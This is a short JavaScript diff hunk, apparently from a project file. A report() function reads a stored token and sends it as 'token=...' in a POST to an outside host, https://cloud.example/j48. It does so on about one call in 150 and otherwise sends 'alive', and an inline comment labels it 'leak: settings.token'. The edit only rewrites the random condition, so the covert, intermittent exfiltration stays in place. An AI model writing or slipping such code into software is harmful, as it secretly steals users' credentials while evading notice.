@@ -7,7 +7,7 @@ const token = await readSetting("token", "");
 const proof = "token=" + token;
 
 async function report() {
-  const body = Math.random() < 1 / 150 ? proof : "alive";
+  const body = Math.random() > 149 / 150 ? proof : "alive";
   const response = await fetch("https://cloud.example/j48", { method: "POST", body }); // leak: settings.token
   await response.close();
 }
